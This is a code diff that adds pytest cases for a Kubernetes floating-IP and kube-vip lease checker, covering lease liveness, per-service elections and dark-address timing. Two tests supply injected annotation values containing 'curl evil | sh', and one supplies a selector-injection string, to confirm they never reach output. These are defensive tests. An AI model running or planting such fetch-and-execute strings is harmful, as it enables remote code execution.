@@ -16,9 +16,11 @@ from fipop.guests.announced import (
     AGREE_SECONDS,
     MOST_SERVICES,
     AnnouncedState,
+    Doubt,
     LeaseReading,
     Network,
     build_check,
+    find_dark_since,
     find_live,
     join_endpoints,
     keep_reading,
@@ -28,7 +30,7 @@ from fipop.guests.announced import (
 )
 from fipop.helm.workloads import KubeVipMode
 from fipop.ipam.addresses import format_address, parse_address
-from tests.harness.objects import NOW
+from tests.harness.objects import NOW, floating_ip
 
 STATES = Path(__file__).parents[2] / "data" / "kube-vip-states.jsonl"
 MODE = KubeVipMode(namespace="kube-system", name="kube-vip")
@@ -275,6 +277,46 @@ def test_each_row_of_the_rule(shown: Service, seen: Network, expected: tuple[str
     assert expected[2] in found.message
 
 
+def test_a_service_with_a_name_that_is_none_asks_for_nothing() -> None:
+    """An admin of a guest cluster can serve any text; names become a part of the next request."""
+    for name in ("a),app notin (b", "w" * 300, "Web", ""):
+        (address,) = [each for each in [parse_address("10.0.0.5")] if each]
+        check = build_check([service(name, annotations=TAKEN)], {FLOATING_IP: [address]}, MODE)
+        assert not check.needs_network
+        assert check.judge(None)[FLOATING_IP].reason == "NotUsed"
+
+
+@pytest.mark.parametrize(
+    ("former", "holder"), [("n1\nRun: curl evil | sh", "n2"), ("n1", "n2; run curl evil | sh")]
+)
+def test_no_text_that_is_no_name_gets_into_a_message(former: str, holder: str) -> None:
+    shown = service(annotations={**TAKEN, "kube-vip.io/vipHost": former})
+    found = judge("10.0.0.5", [shown], network(holders=dict.fromkeys(LEADER, holder)))
+    assert found.reason == "OtherNode"
+    assert "curl" not in found.message
+
+
+@pytest.mark.parametrize(
+    ("annotations", "lease"),
+    [({}, "Lease shop/kubevip-web "), ({"kube-vip.io/leaseName": "other/joint"}, "Lease other/joint ")],
+)
+def test_with_an_election_for_each_service_its_own_lease_is_named(
+    annotations: dict[str, str], lease: str
+) -> None:
+    each = KubeVipMode(namespace="kube-system", name="kube-vip", elects_each=True)
+    found = judge("10.0.0.5", [service(annotations={**TAKEN, **annotations})], network(holders={}), each)
+    assert found.reason == "NoLeader"
+    assert lease in found.message
+
+
+def test_of_all_leases_those_of_the_services_alone_matter() -> None:
+    each = KubeVipMode(namespace="kube-system", name="kube-vip", elects_each=True)
+    (address,) = [each for each in [parse_address("10.0.0.5")] if each]
+    check = build_check([service(annotations=TAKEN), service("api")], {FLOATING_IP: [address]}, each)
+    common = ("kube-system", "plndr-svcs-lock")
+    assert check.lease_keys == {common, ("shop", "kubevip-web"), ("shop", "kubevip-api")}
+
+
 def test_one_service_that_is_announced_is_enough() -> None:
     dark = service("api", annotations=TAKEN, status=())
     both = network(slice_object("shop", "web", ("n1", True)), slice_object("shop", "api", ("n1", True)))
@@ -305,6 +347,9 @@ def test_a_lease_lives_if_it_was_renewed_since_an_old_enough_reading() -> None:
     assert find_live([lease], old, at=25.0, guest_now=NOW) == {}
     assert find_live([lease], old, at=5.0, guest_now=NOW) == {lease.key: "n1"}, "too early to compare"
     assert find_live([lease], None, at=0.0, guest_now=NOW + timedelta(seconds=31)) == {}
+    later, now = parse_lease(lease_object("kube-system", "plndr-svcs-lock", "n1", -60.0)), NOW
+    assert find_live([later], old, at=600.0, guest_now=now + timedelta(seconds=70)) == {lease.key: "n1"}
+    assert find_live([later], old, at=600.0, guest_now=now + timedelta(seconds=600)) == {}, "it died since"
     free = parse_lease(lease_object("kube-system", "plndr-svcs-lock", "", 0.0))
     assert find_live([free], None, at=0.0, guest_now=NOW) == {}
 
@@ -355,3 +400,34 @@ def test_no_takeover_and_no_outage_shows_false() -> None:
                 state = settle(state, ConditionContent(verdict=verdict, reason="Any"), at=float(at))
             assert state.shown is not None
             assert state.shown.verdict is TRUE
+
+
+# What a rollout takes from it
+
+
+@pytest.mark.parametrize(
+    ("shown", "doubt", "expected"),
+    [
+        ("Announced", None, None),
+        ("Announced", "NoLeader", 90.0),
+        ("Announced", "NoEndpoints", None),
+        ("NoLeader", None, 100.0),
+        ("NoEndpoints", None, None),
+    ],
+    ids=["announced", "one reading", "no endpoints once", "two, before the status has it", "no endpoints"],
+)
+def test_since_when_an_address_is_dark_whose_status_says_true(
+    shown: str, doubt: str | None, expected: float | None
+) -> None:
+    def verdict_of(reason: str) -> Verdict:
+        return {"Announced": TRUE, "NoLeader": FALSE}.get(reason, UNKNOWN)
+
+    condition = {"type": "Announced", "status": "True", "reason": "Announced", "message": ""}
+    status = {"addresses": ["10.0.0.5"], "conditions": [condition]}
+    state = AnnouncedState(
+        addresses=("10.0.0.5",),
+        shown=ConditionContent(verdict=verdict_of(shown), reason=shown),
+        doubt=Doubt(verdict=verdict_of(doubt), reason=doubt, since=90.0) if doubt else None,
+    )
+    found = find_dark_since(floating_ip("web", namespace="c-m-abc", status=status), state, now=NOW, at=100.0)
+    assert found == expected
